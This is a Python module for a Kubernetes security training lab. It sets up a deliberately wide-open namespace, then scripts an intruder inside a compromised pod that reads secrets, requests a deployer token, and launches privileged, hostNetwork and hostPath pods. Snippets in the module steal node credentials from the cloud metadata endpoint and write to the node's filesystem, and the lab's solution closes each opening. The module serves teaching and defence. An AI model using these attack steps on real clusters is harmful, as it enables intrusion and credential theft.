"""Lab b6-cluster: the doors of Kubernetes around a pod that somebody else runs code in.

A chain of four Deployments, ``front`` → ``app`` → ``backend`` → ``database``, set up the old way: one account with a
Role too wide, a token in every pod, a namespace without a Pod Security Standard, no NetworkPolicy.  The intruder comes
through the hole in the pods' program (``shop_pod.py``) and does what ``pod_intruder.py`` says.
"""

from __future__ import annotations

import itertools
import json
from collections.abc import Mapping
from pathlib import Path
from typing import Any, ClassVar

from labs.cluster.network.router import METADATA
from labs.cluster.observation import ask
from labs.cluster.space import APP, MERGE, Object, Space, complete, ready, until
from labs.errors import PermanentError, TemporaryError
from labs.scenarios.base import Values, digest, pick
from labs.scenarios.cluster_lab import ClusterLab

PROGRAM, INTRUDER = (Path(__file__).with_name(name).read_text("utf-8") for name in ("shop_pod.py", "pod_intruder.py"))
FRONT, PORT, ADMIN_PORT, DATABASE_PORT = "front", 8080, 9090, 5432
DEPLOYER = "deployer"
LEVELS = "pod-security.kubernetes.io/"
IMAGE = "host/python3"
STARTED_WITHIN, ASKED_WITHIN, INTRUDED_WITHIN = 30.0, 10.0, 45.0
RUN_AS = 65532
POD_SECURITY: Object = {"runAsNonRoot": True, "runAsUser": RUN_AS, "seccompProfile": {"type": "RuntimeDefault"}}
CONTAINER_SECURITY: Object = {"allowPrivilegeEscalation": False, "capabilities": {"drop": ["ALL"]}}
"""What the level "restricted" asks for ("Pod Security Standards", Kubernetes documentation)."""


class B6Cluster(ClusterLab):
    """The shop's namespace, wide open."""

    id: ClassVar[str] = "b6-cluster"
    title: ClassVar[str] = "What a compromised pod can do in its cluster, and which door stops it"
    minutes: ClassVar[int] = 45

    def values(self, seed: bytes) -> Values:
        """Names and ports of one learner."""
        app = pick(seed, "app", ["catalogue", "menu", "pages"])
        return {
            "namespace": f"b6-shop-{digest(seed, 'namespace')[:6]}",
            "front": FRONT,
            "app": app,
            "backend": pick(seed, "backend", ["prices", "reviews", "stock"]),
            "database": pick(seed, "database", ["customers", "ledger", "orders"]),
            "port": PORT,
            "backend_port": pick(seed, "backend port", [8000, 8081, 8888]),
            "admin_port": ADMIN_PORT,
            "database_port": DATABASE_PORT,
            "settings": pick(seed, "settings", ["banner", "offers", "opening-hours"]),
            "session": pick(seed, "session", ["cookie-key", "csrf-key", "session-key"]),
            "payments": pick(seed, "payments", ["bank-login", "card-processor", "payments-key"]),
            "deployer": DEPLOYER,
        }

    def furnish(self, space: Space, values: Values) -> None:
        """Everything but the Deployments, which a check starts after it has applied an answer."""
        space.apply(*configuration(values), *(service(values, name) for name in chain(values)))
        space.apply(*access(values), manager="learner")

    def prepare(self, space: Space, values: Values) -> None:  # type: ignore[override]
        """The open namespace; policies, levels and what else the learner closed is open again."""
        relabel(space, None)
        space.delete_all("NetworkPolicy")
        self.furnish(space, values)
        space.apply(*(deployment(values, name) for name in chain(values)), manager="learner")
        restart(space, values)

    def observe(self, space: Space, values: Values) -> dict[str, Any]:  # type: ignore[override]
        """What a customer gets, and what an intruder in the app's pod can do at the Kubernetes API."""
        status, said = page(space, values)
        steps = [name for name, what in attempts(values).items() if "call" in what]
        seen = intrude(space, values, {name: attempts(values)[name] for name in steps})
        return {"page": status, "said": said, **{name: each["got"] for name, each in seen.items()}}

    def run(self, space: Space, values: Values, program: str, **options: Any) -> Any:  # type: ignore[override]
        """``page``: what a customer gets, in a line.  ``intrude``: what an intruder gets (``steps`` by name, ``who``).

        ``role``, ``deployment``: the app's, as they were at the start.  ``security``: set contexts on every Deployment
        (``pod``, ``container``).  ``level``: labels of the namespace for Pod Security.  ``restart``: new pods for all.
        """
        if program == "page":
            return told(page(space, values))
        if program == "intrude":
            seen = intrude(space, values, chosen(space, values, options["steps"]), options.get("who", ""))
            return "\n".join(f"{step}: {each['got']}" for step, each in seen.items())
        if program == "role":
            return wide_role(values)
        if program == "deployment":
            return deployment(values, values["app"])
        if program == "security":
            made = [deployment(values, each, options["pod"], options["container"]) for each in chain(values)]
            space.apply(*made, manager="learner")
            return restart(space, values)
        if program == "level":
            return relabel(space, options["labels"])
        if program == "restart":
            return restart(space, values)
        raise PermanentError(f"lab {self.id} has no program {program!r}",
                             "It has page, intrude, role, deployment, security, level and restart.")

    def solution(self, space: Space, values: Values) -> None:  # type: ignore[override]
        """Every door closed, the shop open."""
        relabel(space, {f"{LEVELS}enforce": "restricted"})
        space.apply(*good_access(values), *good_policies(values), manager="learner")
        self.run(space, values, "security", pod=POD_SECURITY, container=CONTAINER_SECURITY)


def chain(values: Values) -> list[str]:
    """The four workloads, from the customer's side."""
    return [values[name] for name in ("front", "app", "backend", "database")]


def configuration(values: Values) -> list[Object]:
    """The program, and what the app reads and must not read."""
    def stored(kind: str, name: str, field: str, data: Mapping[str, str]) -> Object:
        return {"apiVersion": "v1", "kind": kind, "metadata": {"name": name}, field: dict(data)}

    return [
        stored("ConfigMap", "program", "data", {"shop_pod.py": PROGRAM}),
        stored("ConfigMap", values["settings"], "data", {"text": "Open until midnight"}),
        stored("Secret", values["session"], "stringData", {"key": "of cookies only"}),
        stored("Secret", values["payments"], "stringData", {"key": "4111 1111 1111 1111"}),
    ]


def access(values: Values) -> list[Object]:
    """Accounts and Roles as they were: the app's is as wide as what somebody once tried out."""
    everything = _role(values["deployer"], [{"apiGroups": ["*"], "resources": ["*"], "verbs": ["*"]}])
    return [
        *(account(values[each]) for each in ("front", "app", "backend", "database", "deployer")),
        wide_role(values), _binding(values["app"]), everything, _binding(values["deployer"]),
    ]


def account(name: str, mounted: bool = True) -> Object:
    """A service account; do its pods get its token?"""
    return {"apiVersion": "v1", "kind": "ServiceAccount", "metadata": {"name": name},
            "automountServiceAccountToken": mounted}


def wide_role(values: Values) -> Object:
    """The app's Role at the start."""
    resources = ["configmaps", "secrets", "pods", "pods/log", "serviceaccounts/token"]
    return _role(values["app"], [{"apiGroups": [""], "resources": resources, "verbs": ["*"]}])


def _role(name: str, rules: list[Object]) -> Object:
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "Role", "metadata": {"name": name}, "rules": rules}


def _binding(name: str) -> Object:
    """The Role of that name, for the account of that name."""
    return {"apiVersion": "rbac.authorization.k8s.io/v1", "kind": "RoleBinding", "metadata": {"name": name},
            "roleRef": {"apiGroup": "rbac.authorization.k8s.io", "kind": "Role", "name": name},
            "subjects": [{"kind": "ServiceAccount", "name": name}]}


def deployment(values: Values, name: str, pod: Object | None = None, container: Object | None = None) -> Object:
    """One link of the chain.

    :param pod: its pods' securityContext; ``container`` that of their container
    """
    labels = {APP: name}
    spec = {"serviceAccountName": name, **pod_spec(name, *_link(values, name), container),
            **({"securityContext": pod} if pod else {})}
    return {
        "apiVersion": "apps/v1",
        "kind": "Deployment",
        "metadata": {"name": name, "labels": labels},
        "spec": {"replicas": 1, "selector": {"matchLabels": labels},
                 "template": {"metadata": {"labels": labels}, "spec": spec}},
    }


def pod_spec(
    name: str, ports: list[int], needs: str, reads: list[list[str]], container: Object | None = None
) -> Object:
    """A pod that runs the program, which says what the parameters mean."""
    program = {"name": "PROGRAM", "valueFrom": {"configMapKeyRef": {"name": "program", "key": "shop_pod.py"}}}
    told = {"NAME": name, "PORTS": json.dumps(ports), "NEEDS": needs, "READS": json.dumps(reads)}
    one = {
        "name": "web",
        "image": IMAGE,
        "command": ["python3", "-u", "-c", "$(PROGRAM)"],
        "ports": [{"containerPort": each} for each in ports],
        "env": [program, *({"name": key, "value": value} for key, value in told.items())],
        "readinessProbe": {"tcpSocket": {"port": ports[0]}, "periodSeconds": 1, "failureThreshold": 1},
        **({"securityContext": container} if container else {}),
    }
    return {"terminationGracePeriodSeconds": 1, "containers": [one]}


def stranger(name: str) -> Object:
    """A pod with the same hole that belongs to no workload; ``intrude`` finds it by its name."""
    return {"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "labels": {APP: name}},
            "spec": pod_spec(name, [PORT], "", [])}


def _link(values: Values, name: str) -> tuple[list[int], str, list[list[str]]]:
    """(ports, the next link, what it reads) of a workload."""
    if name == values["front"]:
        return [PORT], f"{values['app']}:{PORT}", []
    if name == values["app"]:
        reads = [["configmaps", values["settings"]], ["secrets", values["session"]]]
        return [PORT], f"{values['backend']}:{values['backend_port']}", reads
    if name == values["backend"]:
        return [values["backend_port"], ADMIN_PORT], f"{values['database']}:{DATABASE_PORT}", []
    return [DATABASE_PORT], "", []


def service(values: Values, name: str) -> Object:
    """The Service in front of a link, same ports."""
    ports = [{"name": f"p{each}", "port": each} for each in _link(values, name)[0]]
    return {"apiVersion": "v1", "kind": "Service", "metadata": {"name": name},
            "spec": {"selector": {APP: name}, "ports": ports}}


def relabel(space: Space, labels: Mapping[str, str] | None) -> None:
    """Set the namespace's labels for Pod Security Admission, as applied by the learner; None takes all of them away.

    :raises labs.cluster.space.Refused: a level that there is not
    """
    path = f"/api/v1/namespaces/{space.name}"
    kinds = [f"{LEVELS}{mode}{part}" for mode in ("enforce", "audit", "warn") for part in ("", "-version")]
    wanted = {**dict.fromkeys(kinds), **(labels or {})}
    space.cluster.call("PATCH", path, {"metadata": {"labels": wanted}}, MERGE)


def restart(space: Space, values: Values) -> None:
    """New pods for every workload; returns when all are Ready.

    :raises TemporaryError: they are not in STARTED_WITHIN seconds
    """
    old = {each["metadata"]["uid"] for each in space.pods()}
    for each in space.pods():
        space.delete("Pod", each["metadata"]["name"])
    if not until(lambda: serving(space, values, old), STARTED_WITHIN):
        raise TemporaryError(f"not every pod is Ready after {STARTED_WITHIN:.0f} s: look at `kubectl get pods` and "
                             "`kubectl get events`")


def serving(space: Space, values: Values, old: set[str] | None = None) -> bool:
    """Has every workload its pod, Ready and none of ``old`` (uids)?"""
    for name in chain(values):
        pods = space.pods(name)
        if len(pods) != 1 or not ready(pods[0]) or pods[0]["metadata"]["uid"] in (old or ()):
            return False
        if not complete(space.get("Deployment", name)):
            return False
    return True


def page(space: Space, values: Values) -> tuple[int, str]:
    """(status, text) that a customer gets from the front; 0 for no answer."""
    return ask(space, address(space, values["front"]), PORT, "/", within=ASKED_WITHIN)


def told(answer: tuple[int, str]) -> str:
    """A page in a line."""
    status, said = answer
    return f"{status}: {' → '.join(json.loads(said)) if status == 200 else said}"


def address(space: Space, app: str) -> str:
    """The address of a workload's pod, "" while there is none."""
    return next((str(each["status"]["podIP"]) for each in space.pods(app) if each["status"].get("podIP")), "")


def intrude(space: Space, values: Values, order: Mapping[str, Object], who: str = "") -> dict[str, dict[str, Any]]:
    """What an intruder in a workload's pod gets, step by step: ``{"got": text, "succeeded": bool}``.

    :param order: see ``pod_intruder.py``
    :param who: the workload, the app when ""
    :raises TemporaryError: the intruder's program did not come to its end
    """
    who = who or values["app"]
    port = _link(values, who)[0][0] if who in chain(values) else PORT
    program = f"ORDER = {dict(order)!r}\n{INTRUDER}"
    status, said = ask(space, address(space, who), port, "/preview", "POST", INTRUDED_WITHIN, program)
    if status != 200:
        raise TemporaryError(f"the intruder in {who} did not come to an end: {status} {said}"[:600])
    seen: dict[str, dict[str, Any]] = json.loads(said)
    if broken := [f"{step}: {each['got']}" for step, each in seen.items() if each.get("broken")]:
        raise TemporaryError(f"the intruder in {who} did not get an answer: {'; '.join(broken)}"[:600])
    return seen


def attempts(values: Values) -> dict[str, Object]:
    """What an intruder tries, by name: at the API with the pod's token, and by pods of its own."""
    here = "/api/v1/namespaces/{namespace}"
    mark = {"metadata": {"annotations": {"intruder": "was here"}}}
    request = {"apiVersion": "authentication.k8s.io/v1", "kind": "TokenRequest",
               "spec": {"audiences": ["https://kubernetes.default.svc"]}}
    return {
        "token": {"token": True},
        "payments": {"call": ["GET", f"{here}/secrets/{values['payments']}"]},
        "list": {"call": ["GET", f"{here}/secrets"]},
        "settings": {"call": ["PATCH", f"{here}/configmaps/{values['settings']}", mark]},
        "deployer": {"call": ["POST", f"{here}/serviceaccounts/{values['deployer']}/token", request]},
        "pod as deployer": {"pod": _pod(WHO, {"serviceAccountName": values["deployer"]})},
        "hostNetwork": {"pod": _pod(NETWORK, {"hostNetwork": True})},
        "hostPath": {"pod": _pod(FILES, {"volumes": [{"name": "node", "hostPath": {"path": "/"}}]},
                                 {"volumeMounts": [{"name": "node", "mountPath": "/node"}]})},
        "privileged": {"pod": _pod(HELLO, {}, {"securityContext": {"privileged": True}})},
        "root": {"pod": _pod(HELLO, {"securityContext": {**POD_SECURITY, "runAsNonRoot": False, "runAsUser": 0}})},
        "escalation": {"pod": _pod(HELLO, {}, {"securityContext": {**CONTAINER_SECURITY,
                                                                   "allowPrivilegeEscalation": True}})},
    }


HELLO = "print('hello')"
WHO = """
import json, os, base64
token = open('/var/run/secrets/kubernetes.io/serviceaccount/token').read().split('.')[1]
print('I am', json.loads(base64.urlsafe_b64decode(token + '=='))['sub'])
"""
NETWORK = """
import urllib.request as r
base, age, show = 'http://169.254.169.254/latest/', 'X-aws-ec2-metadata-token-ttl-seconds', 'X-aws-ec2-metadata-token'
try:
    token = r.urlopen(r.Request(base + 'api/token', method='PUT', headers={age: '60'}), timeout=5).read().decode()
    path = base + 'meta-data/iam/security-credentials/'
    print('node role:', r.urlopen(r.Request(path, headers={show: token}), timeout=5).read().decode())
except OSError as error:
    print('no metadata service:', error)
"""
FILES = """
import os
open('/node/intruder', 'w').close()
print('I can write on the node:', *sorted(os.listdir('/node')))
os.remove('/node/intruder')
"""


def _pod(program: str, more: Object, container: Object | None = None) -> Object:
    """The spec of a pod that keeps to the level "restricted", but for ``more`` and ``container``."""
    one = {"name": "intruder", "image": IMAGE, "command": ["python3", "-c", program],
           "securityContext": CONTAINER_SECURITY, **(container or {})}
    return {"securityContext": POD_SECURITY, "automountServiceAccountToken": "serviceAccountName" in more,
            "containers": [one], **more}


def connections(space: Space, values: Values) -> dict[str, Object]:
    """Where an intruder may want to connect to, by name; addresses, so that no name has to be known."""
    ports = {"front": PORT, "app": PORT, "backend": values["backend_port"], "database": DATABASE_PORT}
    found = {each: [address(space, values[each]), port] for each, port in ports.items()}
    found |= {"admin": [found["backend"][0], ADMIN_PORT], "metadata": [METADATA, 80]}
    return {name: {"connect": where} for name, where in found.items() if where[0]}


def chosen(space: Space, values: Values, steps: list[str]) -> dict[str, Object]:
    """The order for some steps; raises PermanentError for one that there is not."""
    known = attempts(values) | connections(space, values)
    if missing := [each for each in steps if each not in known]:
        raise PermanentError(f"The intruder does not know {', '.join(missing)}.", f"There are: {', '.join(known)}.")
    return {each: known[each] for each in steps}


def good_access(values: Values) -> list[Object]:
    """What the app reads and nothing else; no token where none is used."""
    rules = [{"apiGroups": [""], "resources": [kind], "resourceNames": [values[name]], "verbs": ["get"]}
             for kind, name in (("configmaps", "settings"), ("secrets", "session"))]
    idle = [account(values[each], mounted=False) for each in ("front", "backend", "database")]
    return [_role(values["app"], rules), *idle]


def good_policies(values: Values) -> list[Object]:
    """Nothing, but each link to the next and everybody to the cluster's DNS."""
    def policy(name: str, who: Object, **spec: Any) -> Object:
        return {"apiVersion": "networking.k8s.io/v1", "kind": "NetworkPolicy", "metadata": {"name": name},
                "spec": {"podSelector": who, **spec}}

    def pods(name: str) -> Object:
        return {"matchLabels": {APP: name}}

    links = chain(values)
    made = [
        policy("nothing", {}, policyTypes=["Ingress", "Egress"]),
        policy("names", {}, policyTypes=["Egress"], egress=[{
            "to": [{"namespaceSelector": {"matchLabels": {"kubernetes.io/metadata.name": "kube-system"}},
                    "podSelector": {"matchLabels": {"k8s-app": "kube-dns"}}}],
            "ports": [{"protocol": each, "port": 53} for each in ("UDP", "TCP")]}]),
    ]
    for source, target in itertools.pairwise(links):
        ports = [{"protocol": "TCP", "port": _link(values, target)[0][0]}]
        made += [
            policy(f"{source}-to-{target}", pods(source), policyTypes=["Egress"],
                   egress=[{"to": [{"podSelector": pods(target)}], "ports": ports}]),
            policy(f"{target}-from-{source}", pods(target), policyTypes=["Ingress"],
                   ingress=[{"from": [{"podSelector": pods(source)}], "ports": ports}]),
        ]
    return made
